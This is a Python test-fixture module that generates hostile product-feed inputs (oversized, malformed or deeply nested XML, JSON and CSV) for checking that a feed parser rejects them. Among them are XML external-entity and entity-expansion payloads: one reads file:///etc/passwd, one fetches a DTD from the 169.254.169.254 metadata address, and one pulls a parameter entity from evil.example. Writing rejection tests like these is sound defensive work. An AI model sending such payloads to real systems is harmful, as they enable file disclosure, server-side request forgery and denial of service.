"""What somebody might give for a feed: as large as is asked for, and why it is refused."""

from __future__ import annotations

import random
from collections.abc import Callable

GOOGLE = b'<rss xmlns:g="http://base.google.com/ns/1.0"><channel>'
ITEM = b"<item><g:id>1</g:id><title>Pot</title><link>https://pots.example/1</link></item>"
PRODUCT = b'{"id": 1, "title": "' + b"x" * 1000 + b'"},'
HEAD = b"id,title,link\n"
LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><rss><item>&b;</item></rss>'


WIDE = 1_400_000  # more than one item may have


def filled(size: int, piece: bytes, before: bytes = b"", after: bytes = b"") -> bytes:
    times = max(1, (size - len(before) - len(after)) // len(piece))
    return before + piece * times + after


def numbered(size: int, piece: Callable[[int], bytes], before: bytes, after: bytes = b"") -> bytes:
    return before + b"".join(piece(n) for n in range(size // len(piece(1_000_000)))) + after


ZOO: dict[str, tuple[Callable[[int], bytes], str]] = {
    "laughs": (lambda size: LAUGHS.encode(), "dtd"),
    "a file of ours": (
        lambda size: b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss>&x;</rss>', "dtd",
    ),
    "a document type elsewhere": (
        lambda size: b'<!DOCTYPE r SYSTEM "http://169.254.169.254/x.dtd"><rss/>', "dtd",
    ),
    "a parameter entity": (
        lambda size: b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/"> %p;]><r/>', "dtd",
    ),
    "an entity nobody declared": (lambda size: b"<rss><item>&x;</item></rss>", "xml"),
    "elements in elements": (lambda size: filled(size, b"<a>"), "too deep"),
    "items in items": (lambda size: filled(size, b"<item>", GOOGLE), "too deep"),
    "cut off": (lambda size: filled(size, ITEM, GOOGLE)[:200_050], "xml"),
    "a text without an end": (lambda size: filled(size, b"x", GOOGLE + b"<item><title>"), "xml"),
    "a comment without an end": (lambda size: filled(size, b"-x", GOOGLE + b"<!--"), "xml"),
    "attributes without an end": (
        lambda size: numbered(size, lambda n: b'a%d="" ' % n, b"<rss "), "xml",
    ),
    "a name without an end": (lambda size: filled(size, b"x", b"<"), "xml"),
    "ever new names": (lambda size: numbered(size, lambda n: b"<a%d/>" % n, b"<rss>"), "names"),
    "ever new attributes": (
        lambda size: numbered(size, lambda n: b'<a b%d=""/>' % n, b"<rss>"), "names",
    ),
    "ever new fields": (
        lambda size: numbered(size, lambda n: b"<f%d>x</f%d>" % (n, n), GOOGLE + b"<item>"),
        "names",
    ),
    "empty items": (lambda size: filled(max(size, 400_000), b"<item/>", GOOGLE), "too many"),
    "said to be UTF-16": (lambda size: b"<?xml version='1.0' encoding='utf-16'?><rss/>", "xml"),
    "said to be in nothing": (lambda size: b"<?xml version='1.0' encoding='x-no'?><rss/>", "xml"),
    "zeros in XML": (lambda size: filled(size, b"\0", GOOGLE), "xml"),
    "brackets in brackets": (lambda size: filled(size, b"[", b'{"products":'), "too deep"),
    "empty lists": (
        lambda size: filled(max(size, 200_000), b"[],", b'{"products":[', b"[]]}"), "too many",
    ),
    "a product of empty lists": (
        lambda size: filled(max(size, WIDE), b"[],", b'{"products":[{"a":[', b"[]]}]}"), "json",
    ),
    "quotes without an end": (lambda size: filled(size, b'\\"', b'{"products":[{"a":"'), "json"),
    "a number without an end": (
        lambda size: filled(900_000, b"9", b'{"products":[{"id":', b"}]}"), "json",
    ),
    "cut off in JSON": (lambda size: filled(size, PRODUCT, b'{"products":['), "json"),
    "no products": (lambda size: b'{"products": 7}', "json"),
    "a list of lists": (lambda size: filled(size, b"[],", b"[", b"[]]"), "json"),
    "no columns": (lambda size: filled(size, b"x,y\n", b"name,address\n"), "columns"),
    "a field without an end": (lambda size: filled(size, b"x", HEAD + b'"'), "table"),
    "a record without an end": (lambda size: filled(max(size, WIDE), b",", HEAD), "table"),
    "a record of many lines": (lambda size: filled(max(size, WIDE), b'"ab\n",', HEAD), "table"),
    "columns without an end": (lambda size: filled(max(size, WIDE), b"id,", b"id,"), "table"),
    "many rows": (lambda size: filled(max(size, 400_000), b"1,a,b\n", HEAD), "too many"),
    "noise": (lambda size: b"\x01" + random.Random(1).randbytes(size), "columns"),
    "nothing": (lambda size: b"", "columns"),
    "zeros": (lambda size: bytes(max(size, WIDE)), "table"),
}  # fmt: skip
